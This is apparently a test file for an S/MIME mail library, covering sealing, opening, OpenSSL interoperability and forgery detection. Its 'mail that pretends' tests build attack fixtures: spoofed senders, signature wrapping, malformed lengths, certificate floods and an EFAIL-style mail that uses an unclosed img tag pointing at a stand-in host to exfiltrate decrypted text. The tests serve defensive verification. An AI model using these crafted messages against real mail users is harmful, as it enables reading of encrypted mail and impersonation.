/**
 * S/MIME mail whole: OpenSSL reads ours, we read OpenSSL's and the public suite's, and mail that pretends is not
 * believed.
 */
import { execFileSync } from 'node:child_process';
import { type Element, readElement } from '../../src/asn1/read';
import { explicit, implicit, sequence } from '../../src/asn1/write';
import { concat, utf8 } from '../../src/bytes';
import { certificatesIn } from '../../src/key-files/in-file';
import { Evidence } from '../../src/certificate/evidence';
import { judge } from '../../src/certificate/verdict';
import { CmsError } from '../../src/cms/errors';
import { signData } from '../../src/cms/sign';
import { readSignedData } from '../../src/cms/signed-data';
import { sealForCertificates } from '../../src/locks/certificate/seal';
import { type Unwrapped, UnwrapError, unwrapMail } from '../../src/locks/unwrap';
import { buildMessage } from '../../src/message/build';
import { type MessageContent } from '../../src/message/content';
import { Openssl } from './openssl';
import { pkitsEvidence, pkitsFile, pkitsNames } from './pkits';

const openssl = new Openssl();
const root = openssl.holder('root');
const [maren, clinic, yard] = [
  openssl.holder('maren.oduya', 'rsa', root),
  openssl.holder('records', 'p256', root),
  openssl.holder('office', 'rsa', root),
];
const held = (...people: (typeof maren)[]) =>
  people.map(({ certificate, privateKey }) => ({ certificate, privateKey }));
const NEUTRAL = 'A confidential message';
const message: MessageContent = {
  messageId: 'a1b2c3@larkmoor.example',
  from: { name: 'Maren Oduya', address: 'maren.oduya@larkmoor.example' },
  to: [{ name: 'Harbour Clinic, Łódź', address: 'records@larkmoor.example' }],
  cc: [],
  subject: 'Fitness papers of Pell Anders',
  date: new Date('2026-11-25T10:00:00Z'),
  reference: 'CR-2026-118',
  text: 'Dear all,\r\nFrom now on …\r\n.\r\n',
  html: '<p>Dear all, Łódź</p>',
  files: [{ name: 'Fitness ✓.pdf', type: 'application/pdf', bytes: utf8('%PDF-1.7 made up') }],
};
const signer = { certificate: maren.certificate, privateKey: maren.privateKey, chain: [root.certificate] };
const sealed = (change: Partial<Parameters<typeof sealForCertificates>[0]> = {}) =>
  sealForCertificates({
    message,
    signer,
    recipients: [{ certificate: clinic.certificate }, { certificate: maren.certificate }],
    neutralSubject: NEUTRAL,
    ...change,
  });
const ascii = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');
const signers = ({ layers }: Unwrapped): string[] =>
  layers.flatMap((layer) => (layer.kind === 'signed' ? layer.checks.map(({ kind }) => kind) : []));

describe('what we seal', () => {
  test('signed and encrypted comes back whole, for the recipient and for the sender, with its real header', async () => {
    const mail = await sealed();
    for (const who of [clinic, maren]) {
      const opened = await unwrapMail(mail, held(who));
      expect(opened.layers.map(({ kind }) => kind)).toEqual(['encrypted', 'signed']);
      expect(signers(opened)).toEqual(['signed']);
      expect(opened).toMatchObject({
        headerProtected: true,
        changedOutside: [],
        partsOnTheirOwn: 0,
        message: {
          subject: message.subject,
          from: message.from,
          to: message.to,
          reference: message.reference,
          text: message.text,
          files: [{ name: 'Fitness ✓.pdf' }],
        },
      });
    }
    await expect(unwrapMail(mail, held(yard))).rejects.toMatchObject({ code: 'not-for-us' });
  });

  test('nothing of it is readable outside: neither subject nor reference nor text nor file name', async () => {
    const mail = ascii(await sealed());
    for (const secret of [
      'Fitness',
      'Pell',
      'CR-2026',
      'Dear all',
      Buffer.from('Fitness').toString('base64').slice(0, 8),
    ])
      expect(mail).not.toContain(secret);
    expect(mail).toContain(`Subject: ${NEUTRAL}\r\n`);
    expect(mail.split('\r\n').every((line) => line.length <= 998)).toBe(true);
  });

  test.each([
    ['pkcs1 and CBC when nothing is known', undefined, 'enveloped-data'],
    ['GCM when all are known to read it', ['2.16.840.1.101.3.4.1.46'], 'authEnveloped-data'],
    ['OAEP too', ['2.16.840.1.101.3.4.1.46', '1.2.840.113549.1.1.7'], 'authEnveloped-data'],
  ] as const)('OpenSSL decrypts and verifies it: %s', async (_, capabilities, type) => {
    const mail = await sealed({
      recipients: [
        { certificate: clinic.certificate, capabilities },
        { certificate: yard.certificate, capabilities },
      ],
    });
    expect(ascii(mail)).toContain(`smime-type=${type}`);
    openssl.write('mail.eml', mail);
    for (const who of [clinic, yard]) {
      openssl.run([
        'cms',
        '-decrypt',
        '-in',
        'mail.eml',
        '-recip',
        who.certificateFile,
        '-inkey',
        who.keyFile,
        '-out',
        'signed.eml',
      ]);
      openssl.run([
        'cms',
        '-verify',
        '-in',
        'signed.eml',
        '-CAfile',
        root.certificateFile,
        '-purpose',
        'smimesign',
        '-out',
        'content.eml',
      ]);
      const python =
        'import sys, email, email.policy\nm = email.message_from_binary_file(open(sys.argv[1], "rb"), policy=email.policy.default)\nprint(m["Subject"], "|", m["To"].addresses[0].display_name, "|", m.get_body(("plain",)).get_content().strip().splitlines()[0], "|", [a.get_filename() for a in m.iter_attachments()], "|", m.get_content_type(), m.get_param("hp"), "|", [h for h in m.get_all("HP-Outer") if h.startswith("Subject")])';
      expect(
        execFileSync('/usr/bin/python3', ['-c', python, openssl.file('content.eml')])
          .toString()
          .trim(),
      ).toBe(
        `Fitness papers of Pell Anders | Harbour Clinic, Łódź | Dear all, | ['Fitness ✓.pdf'] | multipart/mixed cipher | ['Subject: ${NEUTRAL}']`,
      );
    }
  });

  test('signed only is clear: anybody reads it, OpenSSL finds it right, and a changed letter is seen', async () => {
    const mail = await sealed({ recipients: [] });
    openssl.write('mail.eml', mail);
    openssl.run([
      'cms',
      '-verify',
      '-in',
      'mail.eml',
      '-CAfile',
      root.certificateFile,
      '-purpose',
      'smimesign',
      '-out',
      'content.eml',
    ]);
    expect(ascii(mail)).toContain('Subject: Fitness papers of Pell Anders\r\n');
    const opened = await unwrapMail(mail, []);
    expect(opened).toMatchObject({ headerProtected: true, changedOutside: [] });
    expect(signers(opened)).toEqual(['signed']);
    const changed = utf8(
      ascii(mail).replace(
        Buffer.from(message.text).toString('base64').slice(0, 12),
        Buffer.from(message.text.replace('Dear', 'Deer')).toString('base64').slice(0, 12),
      ),
    );
    expect(signers(await unwrapMail(changed, []))).toEqual(['changed']);
    // As files lie on disks of other systems.
    expect(signers(await unwrapMail(utf8(ascii(mail).replaceAll('\r\n', '\n')), []))).toEqual(['signed']);
  });

  test('encrypted only is said to be signed by nobody; without any lock nothing leaves', async () => {
    expect(
      (await unwrapMail(await sealed({ signer: undefined }), held(clinic))).layers.map(({ kind }) => kind),
    ).toEqual(['encrypted']);
    await expect(sealed({ signer: undefined, recipients: [] })).rejects.toThrow(RangeError);
  });
});

describe('what others seal', () => {
  const plain =
    'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nThe papers, Łódź.\r\n';
  const fields = [
    '-from',
    'records@larkmoor.example',
    '-to',
    'maren.oduya@larkmoor.example',
    '-subject',
    'From OpenSSL',
  ];
  const signed = (options: string[] = [], headers: string[] = fields): Buffer => {
    openssl.write('plain', plain);
    return openssl.run([
      'cms',
      '-sign',
      '-in',
      'plain',
      '-signer',
      clinic.certificateFile,
      '-inkey',
      clinic.keyFile,
      ...headers,
      ...options,
    ]);
  };

  test.each([
    ['clear', []],
    ['opaque', ['-nodetach']],
    ['opaque in a stream', ['-nodetach', '-stream']],
    ['by key identifier', ['-keyid']],
  ])('signed, %s', async (_, options) => {
    const opened = await unwrapMail(new Uint8Array(signed(options)), []);
    expect(signers(opened)).toEqual(['signed']);
    expect(opened).toMatchObject({
      headerProtected: false,
      message: { subject: 'From OpenSSL', from: { address: 'records@larkmoor.example' }, text: 'The papers, Łódź.\n' },
    });
  });

  test.each([
    ['-aes-256-cbc', false, false],
    ['-aes-128-gcm', true, false],
    ['-des3', false, true],
  ] as const)('signed, then encrypted with %s, then opened', async (cipher, authenticated, old) => {
    openssl.write('signed', signed(['-nodetach'], []));
    const mail = openssl.run(['cms', '-encrypt', '-in', 'signed', cipher, ...fields, maren.certificateFile]);
    const opened = await unwrapMail(new Uint8Array(mail), held(maren));
    expect(opened.layers).toMatchObject([
      { kind: 'encrypted', authenticated, old },
      { kind: 'signed', checks: [{ kind: 'signed' }] },
    ]);
    expect(opened.message.text).toContain('Łódź');
  });

  test('nested four deep opens, nine deep does not', async () => {
    let mail: Buffer = signed([], []);
    const depths: (string | number)[] = [];
    for (let depth = 2; depth <= 9; depth++) {
      openssl.write('inner', mail);
      mail = openssl.run([
        'cms',
        '-sign',
        '-nodetach',
        '-in',
        'inner',
        '-signer',
        clinic.certificateFile,
        '-inkey',
        clinic.keyFile,
      ]);
      depths.push(
        await unwrapMail(new Uint8Array(mail), []).then(
          ({ layers }) => layers.length,
          (error: UnwrapError) => error.code,
        ),
      );
    }
    expect(depths).toEqual([2, 3, 4, 5, 6, 7, 8, 'too-deep']);
  });

  test('a .p7m file alone opens', async () => {
    openssl.write('plain', plain);
    const file = openssl.run([
      'cms',
      '-encrypt',
      '-in',
      'plain',
      '-outform',
      'DER',
      '-aes-256-cbc',
      maren.certificateFile,
    ]);
    expect((await unwrapMail(new Uint8Array(file), held(maren))).message.text).toContain('Łódź');
  });

  test('every mail of the public suite is read; the signature is right in each, and the verdict on its signer is the suite’s', async () => {
    const evidence = pkitsEvidence();
    const wrong: string[] = [];
    for (const name of pkitsNames('smime').filter((one) => /^Signed(Valid|Invalid)/.test(one))) {
      const opened = await unwrapMail(pkitsFile('smime', name), []);
      const [layer] = opened.layers;
      if (layer?.kind !== 'signed' || layer.by !== 'certificate' || layer.checks.length !== 1) throw new Error(name);
      const [check] = layer.checks as [(typeof layer.checks)[number]];
      // Two are signed with DSA keys whose parameters are the issuer's: a signature alone can't be checked then.
      if (check.kind === 'unsupported' && /DSA/.test(name)) continue;
      if (check.kind !== 'signed') throw new Error(`${name}: ${check.kind}`);
      const { level } = await judge({
        certificate: check.certificate,
        use: 'sign',
        now: new Date('2026-11-25T12:00:00Z'),
        evidence,
      });
      if ((level === 'valid') !== name.startsWith('SignedValid') && !/DSA/.test(name)) wrong.push(`${name}: ${level}`);
    }
    expect(wrong).toEqual([]);
  });
});

describe('mail that pretends', () => {
  const evidence = new Evidence({ anchors: [root.certificate] });
  const now = new Date();
  const clear = async (): Promise<string> => ascii(await sealed({ recipients: [] }));

  test('an address outside that is not the signer’s is noticed, and the sealed one is shown', async () => {
    const opened = await unwrapMail(
      utf8((await clear()).replace('maren.oduya@larkmoor.example', 'director@larkmoor.example')),
      [],
    );
    expect(opened).toMatchObject({
      changedOutside: ['from'],
      message: { from: { address: 'maren.oduya@larkmoor.example' } },
    });
  });

  test('without a protected header, the verdict is on the address that is shown', async () => {
    openssl.write('plain', 'Content-Type: text/plain\r\n\r\nPay at once.\r\n');
    const mail = openssl.run([
      'cms',
      '-sign',
      '-in',
      'plain',
      '-signer',
      clinic.certificateFile,
      '-inkey',
      clinic.keyFile,
      '-from',
      'maren.oduya@larkmoor.example',
    ]);
    const opened = await unwrapMail(new Uint8Array(mail), []);
    const [check] = opened.layers.flatMap((layer) =>
      layer.kind === 'signed' && layer.by === 'certificate' ? layer.checks : [],
    );
    if (check?.kind !== 'signed') throw new Error('not signed');
    const verdict = await judge({
      certificate: check.certificate,
      use: 'sign',
      address: opened.message.from.address,
      now,
      evidence,
    });
    expect(verdict).toMatchObject({
      level: 'stop',
      findings: expect.arrayContaining([
        { code: 'address-differs', address: 'maren.oduya@larkmoor.example', issuedFor: ['records@larkmoor.example'] },
      ]),
    });
  });

  test('two From lines are both told', async () => {
    const opened = await unwrapMail(utf8(`From: director@larkmoor.example\r\n${await clear()}`), []);
    expect(opened.outerFrom).toHaveLength(2);
    expect(opened.changedOutside).toContain('from');
  });

  test('a signed part beside an unsigned one vouches for nothing', async () => {
    const inner = (await clear()).replace(/^[\s\S]*?(?=Content-Type: multipart\/signed)/, '');
    const mail = `From: maren.oduya@larkmoor.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: text/plain\r\n\r\nPay at once.\r\n--q\r\n${inner}\r\n--q--\r\n`;
    const opened = await unwrapMail(utf8(mail), []);
    expect(opened).toMatchObject({ layers: [], partsOnTheirOwn: 1 });
  });

  test('with a third part under a signature, with a damaged signature or none, it is shown and nobody vouches for it', async () => {
    const mail = await clear();
    const boundary = /boundary="(s-[^"]+)"/.exec(mail)![1]!;
    const touched = [
      mail.replace(
        new RegExp(`--${boundary}--\r\n$`),
        `--${boundary}\r\nContent-Type: text/plain\r\n\r\nPay at once.\r\n--${boundary}--\r\n`,
      ),
      mail.replace(/(filename="smime\.p7s"\r\n\r\n)[\s\S]*?(\r\n--)/, '$1AAAA$2'),
      mail.replace(/(filename="smime\.p7s"\r\n\r\n)[\s\S]*?(\r\n--)/, '$1This part was removed by the mail gateway.$2'),
    ];
    for (const one of touched) {
      const opened = await unwrapMail(utf8(one), []);
      expect(signers(opened)).toEqual(['unreadable']);
      expect(opened.message.text).toContain('Dear all,');
    }
    expect((await unwrapMail(utf8(touched[0]!), [])).message.text).toContain('Pay at once.');
  });

  test('what gateways make of its types still opens: a file’s name only, no protocol, PEM, base64', async () => {
    const encrypted = ascii(await sealed());
    const head = /^[\s\S]*?\r\n\r\n/.exec(encrypted)![0];
    const body = encrypted.slice(head.length);
    const fieldless = head.replace(/Content-[\s\S]*/, '');
    const named = `${fieldless}Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: (as is) base64\r\nContent-Disposition: attachment; filename*=utf-8''smime.p7m\r\n\r\n${body}`;
    const pem = `-----BEGIN PKCS7-----\n${body.trim()}\n-----END PKCS7-----\n`;
    for (const one of [
      named,
      pem,
      body,
      `${fieldless}Content-Type: application/pkcs7-mime; name=smime.p7m\r\n\r\n${pem}`,
    ]) {
      const opened = await unwrapMail(utf8(one), held(clinic));
      expect(opened.layers.map(({ kind }) => kind)).toEqual(['encrypted', 'signed']);
    }
    const signed = (await clear())
      .replace(/\s*protocol="application\/pkcs7-signature";/, '')
      .replace('application/pkcs7-signature', 'application/octet-stream');
    expect(signed).not.toContain('pkcs7-signature');
    expect(signers(await unwrapMail(utf8(signed), []))).toEqual(['signed']);
  });

  test('certificates alone, as mail or as a file, are shown as what came along', async () => {
    const bundle = openssl.run([
      'crl2pkcs7',
      '-nocrl',
      '-certfile',
      clinic.certificateFile,
      '-certfile',
      root.certificateFile,
      '-outform',
      'DER',
    ]);
    const mail = `From: records@larkmoor.example\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c\r\nContent-Transfer-Encoding: base64\r\n\r\n${bundle.toString('base64')}\r\n`;
    const opened = await unwrapMail(utf8(mail), held(clinic));
    expect(opened.layers).toEqual([]);
    expect(opened.message.files.map(({ bytes }) => certificatesIn(bytes).length)).toEqual([2]);
  });

  test('the signature of another message does not fit', async () => {
    const [mail, other] = [
      await clear(),
      ascii(await sealed({ recipients: [], message: { ...message, text: 'Something else.' } })),
    ];
    const signature = /filename="smime\.p7s"\r\n\r\n([\s\S]*?)\r\n--/;
    expect(
      signers(await unwrapMail(utf8(mail.replace(signature.exec(mail)![1]!, signature.exec(other)![1]!)), [])),
    ).toEqual(['changed']);
  });

  test('an encrypted part inside another’s text stays closed, and its text goes nowhere', async () => {
    const stolen = ascii(await sealed({ signer: undefined })).replace(
      /^[\s\S]*?(?=Content-Type: application\/pkcs7-mime)/,
      '',
    );
    const mail = `From: thief@elsewhere.example\r\nSubject: Hello\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: text/html\r\n\r\n<img src="http://elsewhere.example/\r\n--q\r\n${stolen}\r\n--q\r\nContent-Type: text/html\r\n\r\n">\r\n--q--\r\n`;
    const opened = await unwrapMail(utf8(mail), held(clinic, maren));
    expect(opened).toMatchObject({ layers: [], partsOnTheirOwn: 1 });
    expect(JSON.stringify([opened.message.text, opened.message.html])).not.toContain('Dear all');
  });

  test('CBC without a signature inside is said to be unauthenticated: whoever shows it must believe and load nothing', async () => {
    const opened = await unwrapMail(await sealed({ signer: undefined }), held(clinic));
    expect(opened.layers).toMatchObject([{ kind: 'encrypted', authenticated: false }]);
  });

  test('a content type changed to the signed kind is not opened as one', async () => {
    const mail = ascii(await sealed({ signer: undefined })).replace(
      'smime-type=enveloped-data',
      'smime-type=signed-data',
    );
    expect((await unwrapMail(utf8(mail), held(clinic))).layers.map(({ kind }) => kind)).toEqual(['encrypted']);
  });

  test('a thousand certificates under one signature are refused, a hundred that all claim to issue each other end the search', async () => {
    const signed = await signData({ content: utf8('x'), signers: [signer], detached: false, signingTime: now });
    const carrying = (count: number): Uint8Array => {
      const [type, wrapped] = readElement(signed).children as [Element, Element];
      const parts = wrapped.children[0]!.children.map(({ bytes }, index) =>
        index === 3
          ? implicit(0, concat(...Array.from({ length: count }, () => maren.certificate.bytes)), true)
          : bytes,
      );
      return sequence(type.bytes, explicit(0, sequence(...parts)));
    };
    expect(readSignedData(carrying(100)).certificates).toHaveLength(100);
    expect(() => readSignedData(carrying(1000))).toThrow(CmsError);
    // Each with another key, all with one name: every one may be the other's issuer.
    const circle = Array.from({ length: 100 }, (_, index) => ({
      ...root.certificate,
      issuer: maren.certificate.subject,
      subject: maren.certificate.subject,
      publicKey: { ...root.certificate.publicKey, bytes: utf8(String(index)) },
    }));
    const verdict = await judge({
      certificate: maren.certificate,
      use: 'sign',
      now,
      evidence: new Evidence({ anchors: [], certificates: circle }),
    });
    expect(verdict).toMatchObject({ level: 'stop', findings: [{ code: 'unknown-authority' }] });
  });

  test('lengths that lie are refused', async () => {
    const huge = Uint8Array.of(0x30, 0x84, 0x7f, 0xff, 0xff, 0xff, 0x06, 0x09);
    await expect(unwrapMail(huge, [])).rejects.toMatchObject({ code: 'malformed' });
    await expect(
      unwrapMail(
        utf8(
          `Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(huge).toString('base64')}\r\n`,
        ),
        [],
      ),
    ).rejects.toBeInstanceOf(UnwrapError);
  });

  test('plain mail has no layers', async () =>
    expect(await unwrapMail(buildMessage(message), held(maren))).toMatchObject({
      layers: [],
      message: { subject: message.subject },
    }));
});
